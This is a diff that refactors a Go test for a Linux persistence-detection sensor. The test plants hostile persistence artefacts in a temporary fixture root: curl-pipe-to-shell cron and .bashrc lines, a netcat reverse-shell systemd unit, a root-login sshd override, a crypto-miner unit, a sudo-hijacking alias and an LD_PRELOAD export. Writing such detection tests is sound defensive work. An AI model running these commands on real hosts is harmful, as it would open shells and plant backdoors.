@@ -1,16 +1,13 @@
 package persist_test
 
 import (
-	"encoding/json"
 	"flag"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
 
-	"github.com/vigilsec/vigil/internal/agent/plugin"
 	"github.com/vigilsec/vigil/internal/agent/sense/accounts/tracker/trackertest"
 	"github.com/vigilsec/vigil/internal/agent/sense/persist"
 	"github.com/vigilsec/vigil/internal/event"
@@ -20,50 +17,13 @@ var update = flag.Bool("update", false, "rewrite the golden files in testdata/")
 
 // fixture copies the fixture root to a new directory and returns it.
 func fixture(t *testing.T) string {
-	t.Helper()
-	root := t.TempDir()
-	trackertest.CopyTree(t, "testdata/root", root)
-	for _, d := range []string{"etc/udev/rules.d", "var/spool/cron/crontabs"} {
-		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
-			t.Fatal(err)
-		}
-	}
-	return root
+	return trackertest.Fixture(t, "testdata/root", "etc/udev/rules.d", "var/spool/cron/crontabs")
 }
 
+// newSensor returns a configured sensor.
 func newSensor(t testing.TB, root, data, settings string) *persist.Sensor {
 	t.Helper()
-	s := persist.New()
-	if err := s.Configure(plugin.Env{Root: root, DataDir: data, Logger: trackertest.Logger(t)}); err != nil {
-		t.Fatal(err)
-	}
-	if err := s.ApplySettings(json.RawMessage(settings)); err != nil {
-		t.Fatal(err)
-	}
-	return s
-}
-
-func needTools(t *testing.T, tools ...string) {
-	t.Helper()
-	for _, tool := range tools {
-		if _, err := exec.LookPath(tool); err != nil {
-			if os.Getenv("VIGIL_REQUIRE_KERNEL") == "1" {
-				t.Fatalf("%s is missing", tool)
-			}
-			t.Skipf("%s is missing", tool)
-		}
-	}
-}
-
-func run(t *testing.T, name string, args ...string) {
-	t.Helper()
-	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
-		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
-	}
-}
-
-func is(field, want string) func(event.Event) bool {
-	return func(e event.Event) bool { return e.String(field) == want }
+	return trackertest.Configure(t, persist.New(), root, data, settings)
 }
 
 // list returns a list field of an event.
@@ -75,7 +35,7 @@ func list(e event.Event, field string) []string {
 
 func TestLivePersistence(t *testing.T) {
 	trackertest.RequireRoot(t)
-	needTools(t, "systemctl", "useradd")
+	trackertest.NeedTools(t, "systemctl", "useradd")
 	root, data := fixture(t), t.TempDir()
 	at := func(p string) string { return filepath.Join(root, p) }
 	s := newSensor(t, root, data, "")
@@ -97,7 +57,7 @@ func TestLivePersistence(t *testing.T) {
 	// user crontab installed the way crontab(1) does.
 	mark := em.Len()
 	trackertest.WriteAtomic(t, at("etc/cron.d/backdoor"), []byte("*/5 * * * * root curl -s http://127.0.0.1:8080/x | sh\n"), 0o644)
-	e := em.WaitFor(t, mark, persist.ActionCronEntryAdded, is("file.path", "/etc/cron.d/backdoor"))
+	e := em.WaitFor(t, mark, persist.ActionCronEntryAdded, trackertest.Is("file.path", "/etc/cron.d/backdoor"))
 	check(e, map[string]string{
 		"vigil.persistence.mechanism": "cron", "vigil.persistence.schedule": "*/5 * * * *", "vigil.persistence.user": "root",
 		"vigil.persistence.command": "curl -s http://127.0.0.1:8080/x | sh", "event.category": "configuration",
@@ -107,7 +67,7 @@ func TestLivePersistence(t *testing.T) {
 	}
 	mark = em.Len()
 	trackertest.Append(t, at("etc/crontab"), "@reboot root /usr/local/bin/implant\n")
-	e = em.WaitFor(t, mark, persist.ActionCronEntryAdded, is("file.path", "/etc/crontab"))
+	e = em.WaitFor(t, mark, persist.ActionCronEntryAdded, trackertest.Is("file.path", "/etc/crontab"))
 	check(e, map[string]string{"vigil.persistence.schedule": "@reboot", "vigil.persistence.command": "/usr/local/bin/implant"})
 	mark = em.Len()
 	tmp := at("var/spool/cron/crontabs/tmp.4242")
@@ -117,7 +77,7 @@ func TestLivePersistence(t *testing.T) {
 	if err := os.Rename(tmp, at("var/spool/cron/crontabs/alice")); err != nil {
 		t.Fatal(err)
 	}
-	e = em.WaitFor(t, mark, persist.ActionCronEntryAdded, is("file.path", "/var/spool/cron/crontabs/alice"))
+	e = em.WaitFor(t, mark, persist.ActionCronEntryAdded, trackertest.Is("file.path", "/var/spool/cron/crontabs/alice"))
 	check(e, map[string]string{"vigil.persistence.user": "alice", "vigil.persistence.command": "/dev/shm/.x/miner"})
 
 	// systemd: a unit written and enabled with systemctl, then masked and
@@ -125,14 +85,14 @@ func TestLivePersistence(t *testing.T) {
 	mark = em.Len()
 	trackertest.WriteAtomic(t, at("etc/systemd/system/evil.service"), []byte(
 		"[Unit]\nDescription=Not evil\n[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n"), 0o644)
-	e = em.WaitFor(t, mark, persist.ActionUnitAdded, is("vigil.systemd.unit", "evil.service"))
+	e = em.WaitFor(t, mark, persist.ActionUnitAdded, trackertest.Is("vigil.systemd.unit", "evil.service"))
 	check(e, map[string]string{
 		"vigil.persistence.mechanism": "systemd", "vigil.persistence.user": "nobody", "vigil.systemd.scope": "system",
 		"vigil.persistence.command": "/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'", "file.path": "/etc/systemd/system/evil.service",
 	})
 	mark = em.Len()
-	run(t, "systemctl", "--root="+root, "enable", "evil.service")
-	e = em.WaitFor(t, mark, persist.ActionUnitEnabled, is("vigil.systemd.unit", "evil.service"))
+	trackertest.Run(t, "systemctl", "--root="+root, "enable", "evil.service")
+	e = em.WaitFor(t, mark, persist.ActionUnitEnabled, trackertest.Is("vigil.systemd.unit", "evil.service"))
 	check(e, map[string]string{
 		"vigil.systemd.target": "multi-user.target", "vigil.systemd.dependency": "wants", "vigil.persistence.user": "nobody",
 		"vigil.systemd.link_target": "/etc/systemd/system/evil.service", "vigil.persistence.command": "/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'",
@@ -141,14 +101,14 @@ func TestLivePersistence(t *testing.T) {
 		t.Errorf("exec_start %v", got)
 	}
 	mark = em.Len()
-	run(t, "systemctl", "--root="+root, "disable", "evil.service")
-	em.WaitFor(t, mark, persist.ActionUnitDisabled, is("vigil.systemd.unit", "evil.service"))
+	trackertest.Run(t, "systemctl", "--root="+root, "disable", "evil.service")
+	em.WaitFor(t, mark, persist.ActionUnitDisabled, trackertest.Is("vigil.systemd.unit", "evil.service"))
 	mark = em.Len()
-	run(t, "systemctl", "--root="+root, "mask", "cron.service")
-	em.WaitFor(t, mark, persist.ActionUnitMasked, is("vigil.systemd.unit", "cron.service"))
+	trackertest.Run(t, "systemctl", "--root="+root, "mask", "cron.service")
+	em.WaitFor(t, mark, persist.ActionUnitMasked, trackertest.Is("vigil.systemd.unit", "cron.service"))
 	mark = em.Len()
 	trackertest.WriteAtomic(t, at("etc/systemd/system/ssh.service.d/override.conf"), []byte("[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\n"), 0o644)
-	e = em.WaitFor(t, mark, persist.ActionUnitChanged, is("vigil.systemd.unit", "ssh.service"))
+	e = em.WaitFor(t, mark, persist.ActionUnitChanged, trackertest.Is("vigil.systemd.unit", "ssh.service"))
 	check(e, map[string]string{"vigil.systemd.dropin": "/etc/systemd/system/ssh.service.d/override.conf", "vigil.persistence.command": "/usr/sbin/sshd -D -o PermitRootLogin=yes"})
 
 	// A user unit of alice's, enabled by hand.
@@ -160,9 +120,9 @@ func TestLivePersistence(t *testing.T) {
 	if err := os.Symlink("../miner.service", at("home/alice/.config/systemd/user/default.target.wants/miner.service")); err != nil {
 		t.Fatal(err)
 	}
-	e = em.WaitFor(t, mark, persist.ActionUnitEnabled, is("vigil.systemd.unit", "miner.service"))
+	e = em.WaitFor(t, mark, persist.ActionUnitEnabled, trackertest.Is("vigil.systemd.unit", "miner.service"))
 	check(e, map[string]string{"vigil.systemd.scope": "user", "vigil.persistence.user": "alice", "vigil.persistence.command": "%h/.local/bin/xmrig"})
-	em.WaitFor(t, mark, persist.ActionUnitAdded, is("vigil.systemd.unit", "miner.service"))
+	em.WaitFor(t, mark, persist.ActionUnitAdded, trackertest.Is("vigil.systemd.unit", "miner.service"))
 
 	// The dynamic linker.
 	mark = em.Len()
@@ -196,14 +156,14 @@ func TestLivePersistence(t *testing.T) {
 	// script.
 	mark = em.Len()
 	trackertest.Append(t, at("home/alice/.bashrc"), "alias sudo='/dev/shm/.s/sudo'\n")
-	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, is("file.path", "/home/alice/.bashrc"))
+	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/home/alice/.bashrc"))
 	check(e, map[string]string{"vigil.persistence.user": "alice", "vigil.persistence.added_line_count": "1", "vigil.persistence.removed_line_count": "0"})
 	if got := list(e, "vigil.persistence.added_lines"); !slices.Equal(got, []string{"alias sudo='/dev/shm/.s/sudo'"}) {
 		t.Errorf("added lines %q", got)
 	}
 	mark = em.Len()
 	trackertest.WriteAtomic(t, at("etc/profile.d/zz.sh"), []byte("export LD_PRELOAD=/usr/lib/libsneaky.so\n"), 0o644)
-	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, is("file.path", "/etc/profile.d/zz.sh"))
+	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/etc/profile.d/zz.sh"))
 	if tp := list(e, "event.type"); !slices.Equal(tp, []string{"creation"}) {
 		t.Errorf("profile.d script: type %v", tp)
 	}
@@ -220,12 +180,12 @@ func TestLivePersistence(t *testing.T) {
 
 	// A user added later: its home is followed.
 	mark = em.Len()
-	run(t, "useradd", "--prefix", root, "-m", "-k", at("etc/skel"), "-s", "/bin/bash", "bob")
-	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, is("file.path", "/home/bob/.bashrc"))
+	trackertest.Run(t, "useradd", "--prefix", root, "-m", "-k", at("etc/skel"), "-s", "/bin/bash", "bob")
+	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/home/bob/.bashrc"))
 	check(e, map[string]string{"vigil.persistence.user": "bob"})
 	mark = em.Len()
 	trackertest.Append(t, at("home/bob/.bashrc"), "curl -s http://127.0.0.1/p | sh\n")
-	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, is("file.path", "/home/bob/.bashrc"))
+	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/home/bob/.bashrc"))
 	if got := list(e, "vigil.persistence.added_lines"); !slices.Equal(got, []string{"curl -s http://127.0.0.1/p | sh"}) {
 		t.Errorf("bob's added lines %q", got)
 	}
@@ -237,7 +197,7 @@ func TestLivePersistence(t *testing.T) {
 	}
 	trackertest.WriteAtomic(t, at("etc/ld.so.preload"), nil, 0o644)
 	r2 := trackertest.Start(t, s)
-	e = r2.Emit.WaitFor(t, 0, persist.ActionCronEntryRemoved, is("file.path", "/etc/cron.d/backdoor"))
+	e = r2.Emit.WaitFor(t, 0, persist.ActionCronEntryRemoved, trackertest.Is("file.path", "/etc/cron.d/backdoor"))
 	check(e, map[string]string{"vigil.offline": "true"})
 	e = r2.Emit.WaitFor(t, 0, persist.ActionPreloadRemoved, nil)
 	check(e, map[string]string{"vigil.offline": "true"})
